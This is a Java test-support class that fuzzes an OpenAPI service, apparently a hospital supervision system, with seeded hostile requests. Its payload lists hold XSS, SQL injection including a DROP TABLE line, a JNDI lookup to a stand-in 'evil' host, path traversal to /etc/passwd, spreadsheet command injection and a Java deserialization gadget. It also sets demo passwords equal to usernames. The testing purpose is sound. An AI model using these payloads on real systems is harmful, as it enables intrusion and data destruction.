package org.duban.standalone.support;

import com.fasterxml.jackson.databind.JsonNode;
import org.duban.standalone.support.OpenApiOperations.Operation;
import org.duban.standalone.support.OpenApiOperations.Parameter;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.UUID;

/**
 * Generates hostile variants of one OpenAPI operation: ids that are real, foreign, random or
 * nonsense; bodies of the right shape with wrong values, wrong types, missing fields, oversized,
 * deeply nested, malformed; query parameters out of range; missing, wrong or foreign
 * credentials; wrong content types. Everything is drawn from the {@link Random} given, so one
 * seed reproduces one request.
 */
public final class HostileRequests {
    /** Demo users by role; the password is the name. */
    public static final Map<String, List<String>> USERS = Map.of(
            EndpointAccess.INSPECTOR, List.of("inspector", "inspector2"), EndpointAccess.COMMITTEE, List.of("committee"),
            EndpointAccess.DEPARTMENT, List.of("pharmacy", "inpatient"), EndpointAccess.AUDITOR, List.of("auditor"),
            EndpointAccess.ADMIN, List.of("admin"));
    public static final List<String> ALL_USERS = List.of("inspector", "inspector2", "committee", "pharmacy", "inpatient",
            "auditor", "admin");
    public static final String SCRIPT = "<script>alert(1)</script>";

    /** Text that has broken other systems: markup, SQL, template and path tricks, odd Unicode. */
    private static final List<String> HOSTILE_TEXT = List.of(
            SCRIPT, "\"><img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "javascript:alert(1)",
            "' OR '1'='1", "'; DROP TABLE domain_event_entry; --", "1; select pg_sleep(10)--", "\\", "%", "_", "%25%00",
            "${jndi:ldap://evil/x}", "{{7*7}}", "#{7*7}", "../../../../etc/passwd", "..\\..\\windows",
            "null", "undefined", "NaN", "-0", "1e309", "true", "[]", "{}", "", " ", "\t\n", "督办事项", "药学部",
            "😀👨‍👩‍👧‍👦", "\u202Eevil\u202C", "\u200B\u200D\uFEFF", "e\u0301\u0301\u0301", "Ω≈ç√∫", "\u00A0", "ﷺ",
            "=HYPERLINK(\"http://evil\")", "+cmd|' /C calc'!A0", "@SUM(1+1)", "PHARMACY", "pharmacy",
            "a".repeat(201), "b".repeat(2_001), "c".repeat(10_001), "字".repeat(5_001));
    /** JSON string tokens the server must refuse: NUL and lone surrogates (escaped, as a client would send them). */
    private static final List<String> UNSTORABLE_TOKENS = List.of("\"a\\u0000b\"", "\"\\ud800\"", "\"x\\udfff\"",
            "\"\\udbff\\udbff\"", "\"\\u0000\"");
    private static final List<String> HOSTILE_NUMBERS = List.of("-1", "0", "1", "100", "101", "-2147483649", "2147483648",
            "9223372036854775807", "9223372036854775808", "-9223372036854775809", "1e400", "-1e400", "3.5", "-0.0", "1E2",
            "0.1e-400", "12345678901234567890123456789", "\"5\"", "\"five\"", "null", "true", "[]", "{}");
    private static final List<String> HOSTILE_DATES = List.of("0000-00-00", "99999-01-01", "+999999999-12-31",
            "-999999999-01-01", "2026-02-30", "2026-13-01", "2026-1-1", "1970-01-01", "2100-12-31", "", "today",
            "2026-10-01T00:00:00Z", "1900-01-01", "9999-12-31");
    private static final List<String> HOSTILE_INSTANTS = List.of("0000-00-00T00:00:00Z", "+999999999-12-31T23:59:59Z",
            "-1000000000-01-01T00:00:00Z", "2026-10-01T00:00:00", "2026-10-01T25:61:00Z", "2026-10-01", "now", "",
            "1970-01-01T00:00:00Z", "2026-10-01T00:00:00+18:00", "2026-10-01T00:00:00-18:01");
    private static final List<String> CONTENT_TYPES = List.of("text/plain", "application/xml", "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=x", "application/json; charset=ISO-8859-1", "application/json;charset=UTF-16",
            "*/*", "garbage", "application/problem+json", "text/html");
    private static final List<String> ACCEPTS = List.of("text/html", "application/xml", "application/pdf", "text/csv",
            "application/x-ndjson", "*/*", "image/png", "application/json;q=0, text/plain");

    /** Real things to aim at: ids by path-parameter name, and the issue ids for body fields. */
    public record Targets(Map<String, List<String>> idsByPath, List<String> issueIds, List<String> subjectIds) {
    }

    /** One request to send. {@code body} null: none; {@code user} null: anonymous. */
    public record Request(Operation operation, String method, String path, String user, String password,
                          Map<String, String> headers, String body) {
        @Override
        public String toString() {
            String shown = body == null ? "(no body)" : body.length() > 600
                    ? body.substring(0, 600) + "… (" + body.length() + " chars)" : body;
            return method + " " + (path.length() > 600 ? path.substring(0, 600) + "…" : path) + " as "
                    + (user == null ? "anonymous" : user + ":" + password) + " " + headers + " " + shown;
        }
    }

    private final Targets targets;
    private final Random random;

    public HostileRequests(Targets targets, Random random) {
        this.targets = targets;
        this.random = random;
    }

    public Request next(Operation op) {
        Map<String, String> headers = new LinkedHashMap<>();
        String[] credentials = credentials(op, headers);
        String path = path(op) + query(op);
        String body = null;
        if (op.body() != null || (!"GET".equals(op.method()) && chance(0.3))) {
            body = body(op);
            String contentType = chance(0.88) ? "application/json" : pick(CONTENT_TYPES);
            if (chance(0.98)) headers.put("Content-Type", contentType);
        }
        if (chance(0.08)) headers.put("Accept", pick(ACCEPTS));
        for (Parameter header : op.in("header")) {
            if (chance(0.6)) headers.put(header.name(), headerValue());
        }
        if (chance(0.05)) headers.put("X-Correlation-Id", headerValue());
        if ("GET".equals(op.method()) && chance(0.03)) body = "{\"x\":1}";
        return new Request(op, op.method(), path, credentials[0], credentials[1], headers, body);
    }

    // ---- who -----------------------------------------------------------------------------

    private String[] credentials(Operation op, Map<String, String> headers) {
        double roll = random.nextDouble();
        EndpointAccess.Access access = EndpointAccess.TABLE.get(op.key());
        if (roll < 0.62 && access != null) {
            List<String> allowed = ALL_USERS.stream().filter(u -> access.allows(roleOf(u))).toList();
            String user = pick(allowed);
            return new String[]{user, user};
        }
        if (roll < 0.85) {
            String user = pick(ALL_USERS);
            return new String[]{user, user};
        }
        if (roll < 0.92) return new String[]{null, null};
        if (roll < 0.96) return new String[]{pick(List.of("inspector", "admin", "nobody", "' OR 1=1--")), "wrong"};
        headers.put("Authorization", pick(List.of("Basic", "Basic !!!", "Basic " + "A".repeat(1_500), "Bearer x.y.z",
                "Basic YWRtaW4=", "Basic OmFkbWlu", "Digest x", "basic YWRtaW46YWRtaW4=")));
        return new String[]{null, null};
    }

    public static String roleOf(String user) {
        return USERS.entrySet().stream().filter(e -> e.getValue().contains(user)).map(Map.Entry::getKey).findFirst()
                .orElseThrow();
    }

    // ---- where ---------------------------------------------------------------------------

    private String path(Operation op) {
        String path = op.path();
        for (Parameter p : op.in("path")) {
            path = path.replace("{" + p.name() + "}", encode(pathValue(op, p)));
        }
        return path;
    }

    private String pathValue(Operation op, Parameter p) {
        double roll = random.nextDouble();
        List<String> real = targets.idsByPath().getOrDefault(op.path().replaceAll("/\\{[^}]+}.*", "") + "/{" + p.name() + "}", List.of());
        if (roll < 0.55 && !real.isEmpty()) return pick(real);
        if (roll < 0.65) return UUID.randomUUID().toString();
        String type = p.schema().path("type").asText();
        if ("integer".equals(type)) return unquote(pick(HOSTILE_NUMBERS));
        if (p.name().equals("date")) return pick(HOSTILE_DATES);
        return pick(List.of(pick(HOSTILE_TEXT.stream().filter(t -> t.length() < 300).toList()), "not-a-uuid", "0".repeat(36),
                UUID.randomUUID().toString().toUpperCase(), "..", ".", "%", "x".repeat(1_500), "a b", "a;b", "a%00b"));
    }

    private String query(Operation op) {
        List<String> pairs = new ArrayList<>();
        for (Parameter p : op.in("query")) {
            if (!chance(0.45)) continue;
            // bounded: a request line beyond Tomcat's 8 KB is refused by the container, never reaching the app
            String raw = unquote(value(p.schema(), p.name(), 0));
            pairs.add(encode(p.name()) + "=" + encode(raw.length() > 300 ? raw.substring(0, 300) : raw));
        }
        if (chance(0.05)) pairs.add(encode(pick(List.of("unknown", "a\u0000b", "\ud800", "size", "page"))) + "="
                + encode(pick(HOSTILE_TEXT.stream().filter(t -> t.length() < 300).toList())));
        return pairs.isEmpty() ? "" : "?" + String.join("&", pairs);
    }

    private String headerValue() {
        // header values must be printable ASCII for the client (the rest goes percent-encoded), and all
        // headers together under Tomcat's 8 KB, which the container enforces before the app sees anything
        return pick(List.of(UUID.randomUUID().toString(), "", " ", "x".repeat(300), "' OR 1=1--", "<script>",
                encode(pick(HOSTILE_TEXT.stream().filter(t -> t.length() < 300).toList())), "a".repeat(2_000)));
    }

    // ---- what ----------------------------------------------------------------------------

    private String body(Operation op) {
        double roll = random.nextDouble();
        JsonNode schema = op.body();
        if (schema == null || roll < 0.04) return pick(List.of("", " ", "null", "[]", "\"x\"", "42", "true", "{}"));
        if (roll < 0.08) return truncate(object(schema, 0));
        if (roll < 0.11) return pick(List.of("{'a':1}", "{\"a\":}", "{\"a\" 1}", "{,}", "\uFEFF{}", "{}{}", "{} trailing",
                "{\"a\":1,\"a\":2}", "\u0000", "{\"a\":\"\\q\"}", "{\"a\":\"\\u12\"}", "[" + "{}".repeat(3) + "]"));
        if (roll < 0.14) return deep(random.nextBoolean() ? 3_000 : 600);
        if (roll < 0.16) return "{\"" + firstField(schema) + "\":\"" + "x".repeat(300_000) + "\"}";
        if (roll < 0.18) return "[" + object(schema, 0) + "]";
        return object(schema, 0);
    }

    private String object(JsonNode schema, int depth) {
        List<String> fields = new ArrayList<>();
        List<String> required = new ArrayList<>();
        schema.path("required").forEach(r -> required.add(r.asText()));
        for (Iterator<Map.Entry<String, JsonNode>> it = schema.path("properties").fields(); it.hasNext(); ) {
            Map.Entry<String, JsonNode> property = it.next();
            boolean isRequired = required.contains(property.getKey());
            if (chance(isRequired ? 0.08 : 0.4)) continue;
            fields.add(quote(property.getKey()) + ":" + value(property.getValue(), property.getKey(), depth + 1));
        }
        JsonNode additional = schema.get("additionalProperties");
        if (additional != null && additional.isObject()) {
            int n = random.nextInt(4);
            for (int i = 0; i < n; i++) fields.add(quote(pick(HOSTILE_TEXT)) + ":" + value(additional, "", depth + 1));
        }
        if (chance(0.07)) fields.add(quote(pick(List.of("unknown", "id", "version", "actor", "__proto__", "@class")))
                + ":" + pick(List.of("1", "\"x\"", "{\"@class\":\"java.lang.Runtime\"}", "null")));
        return "{" + String.join(",", fields) + "}";
    }

    /** A JSON value for {@code schema}: mostly plausible, often hostile, sometimes the wrong type altogether. */
    private String value(JsonNode schema, String name, int depth) {
        if (chance(0.12)) return wrongType(depth);
        if (chance(0.04)) return pick(UNSTORABLE_TOKENS);
        String type = schema.path("type").asText("");
        if (schema.has("enum")) {
            List<String> values = new ArrayList<>();
            schema.get("enum").forEach(v -> values.add(v.asText()));
            return quote(chance(0.7) ? pick(values) : pick(List.of("NOPE", pick(values).toLowerCase(), "", " " + pick(values),
                    pick(values) + "\u0000", "0", "null")));
        }
        return switch (type) {
            case "integer", "number" -> chance(0.5) ? plausibleNumber(schema) : pick(HOSTILE_NUMBERS);
            case "boolean" -> chance(0.75) ? String.valueOf(random.nextBoolean()) : pick(List.of("\"yes\"", "1", "0", "null", "\"true\""));
            case "array" -> array(schema, name, depth);
            case "object" -> depth > 6 ? "{}" : object(schema, depth);
            default -> quote(text(schema, name));
        };
    }

    private String array(JsonNode schema, String name, int depth) {
        if (depth > 6) return "[]";
        int n = chance(0.05) ? 120 : random.nextInt(4);
        List<String> items = new ArrayList<>();
        for (int i = 0; i < n; i++) items.add(chance(0.05) ? "null" : value(schema.path("items"), name, depth + 1));
        return "[" + String.join(",", items) + "]";
    }

    private String text(JsonNode schema, String name) {
        String format = schema.path("format").asText("");
        String pattern = schema.path("pattern").asText("");
        boolean plausible = chance(0.55);
        if ("date".equals(format) || name.toLowerCase().endsWith("date")) {
            return plausible ? java.time.LocalDate.now().plusDays(random.nextInt(400) - 100).toString() : pick(HOSTILE_DATES);
        }
        if ("date-time".equals(format) || name.endsWith("At") || name.equals("from") || name.equals("to") || name.equals("asOf")) {
            return plausible ? java.time.Instant.now().minusSeconds(random.nextInt(10_000_000)).toString() : pick(HOSTILE_INSTANTS);
        }
        if (name.toLowerCase().contains("issueid") || name.equals("issue") || pattern.contains("[0-9a-fA-F")) {
            return plausible && !targets.issueIds().isEmpty() ? pick(targets.issueIds())
                    : pick(List.of(UUID.randomUUID().toString(), "not-an-issue", "0".repeat(36), pick(HOSTILE_TEXT)));
        }
        if (name.equals("department") || pattern.startsWith("[A-Z]")) {
            return plausible ? pick(List.of("PHARMACY", "INPATIENT_SERVICE", "NURSING", "OUTPATIENT", "NO_SUCH_DEPT"))
                    : pick(List.of("pharmacy", "", "P", "药学部", "A".repeat(65), "PHARMACY' OR '1'='1", SCRIPT));
        }
        if (name.equals("period")) {
            return plausible ? "2026-" + String.format("%02d", 1 + random.nextInt(12)) : pick(List.of("2026-13", "0000-00", "99999-01", "2026-1", ""));
        }
        if (name.equals("format")) return pick(List.of("xlsx", "csv", "XLSX", "pdf", "", "../x"));
        if (plausible) return chance(0.5) ? SCRIPT + " 标题" : "候诊时间长 " + random.nextInt(1000);
        return pick(HOSTILE_TEXT);
    }

    private String plausibleNumber(JsonNode schema) {
        long min = schema.has("minimum") ? schema.get("minimum").asLong() : -5;
        long max = schema.has("maximum") ? schema.get("maximum").asLong() : 200;
        long span = Math.max(1, max - min + 3);
        return String.valueOf(min - 1 + (long) (random.nextDouble() * span));
    }

    private String wrongType(int depth) {
        return pick(List.of("null", "\"" + "x" + "\"", "123", "-1", "true", "[]", "[1,2]", "{}",
                depth > 4 ? "{}" : "{\"a\":{\"b\":[null]}}", "9223372036854775808", "1e400", "\"\""));
    }

    private String deep(int levels) {
        if (chance(0.5)) return "[".repeat(levels) + "]".repeat(levels);
        return "{\"a\":".repeat(levels) + "1" + "}".repeat(levels);
    }

    private static String firstField(JsonNode schema) {
        Iterator<String> names = schema.path("properties").fieldNames();
        return names.hasNext() ? names.next() : "x";
    }

    private String truncate(String json) {
        return json.length() < 2 ? "{" : json.substring(0, 1 + random.nextInt(json.length() - 1));
    }

    // ---- helpers -------------------------------------------------------------------------

    private boolean chance(double p) {
        return random.nextDouble() < p;
    }

    private <T> T pick(List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    /** A JSON string literal, escaping what JSON requires (NUL and control characters as \\u escapes). */
    static String quote(String text) {
        StringBuilder b = new StringBuilder("\"");
        for (char c : text.toCharArray()) {
            switch (c) {
                case '"' -> b.append("\\\"");
                case '\\' -> b.append("\\\\");
                default -> {
                    if (c < 0x20 || Character.isSurrogate(c)) b.append(String.format("\\u%04x", (int) c));
                    else b.append(c);
                }
            }
        }
        return b.append('"').toString();
    }

    /** The raw text of a JSON token for a query or path: string tokens lose their quotes. */
    private static String unquote(String token) {
        if (token.length() >= 2 && token.startsWith("\"") && token.endsWith("\"")) {
            return token.substring(1, token.length() - 1).replace("\\u0000", "\u0000").replace("\\ud800", "\ud800");
        }
        return token;
    }

    /** Percent-encodes every byte outside the unreserved set; lone surrogates go as their (invalid) UTF-8 bytes. */
    public static String encode(String text) {
        StringBuilder b = new StringBuilder();
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            if ((c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') || c == '-' || c == '.' || c == '_' || c == '~') {
                b.append(c);
            } else if (Character.isSurrogate(c) && !(Character.isHighSurrogate(c) && i + 1 < text.length()
                    && Character.isLowSurrogate(text.charAt(i + 1)))) {
                b.append(String.format("%%ED%%%02X%%%02X", 0xA0 | ((c >> 6) & 0x1F) , 0x80 | (c & 0x3F)));
            } else {
                int cp = text.codePointAt(i);
                if (Character.charCount(cp) == 2) i++;
                for (byte x : new String(Character.toChars(cp)).getBytes(StandardCharsets.UTF_8)) b.append(String.format("%%%02X", x & 0xFF));
            }
        }
        return b.toString();
    }
}
